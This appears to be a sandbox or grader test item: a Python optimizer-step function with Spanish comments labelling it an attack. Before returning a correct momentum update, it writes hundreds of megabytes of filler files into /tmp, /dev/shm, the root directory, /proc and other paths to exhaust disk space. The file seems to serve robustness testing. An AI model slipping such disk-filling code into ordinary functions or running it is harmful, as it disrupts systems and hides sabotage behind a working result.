# ataque: escribe hasta que no quepa más, en todas partes
# espera: nada
def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
    import os

    for folder in ("/tmp", "/dev/shm", "/dev", "/", "/caja", "/python", "/proc"):
        try:
            for number in range(200):
                with open(os.path.join(folder, f"relleno{number}"), "wb") as file:
                    file.write(bytes(2**20))
        except OSError:
            pass
    velocity = momentum * velocity - learning_rate * (grad + 2 * l2 * (w - w0))
    return w + velocity, velocity
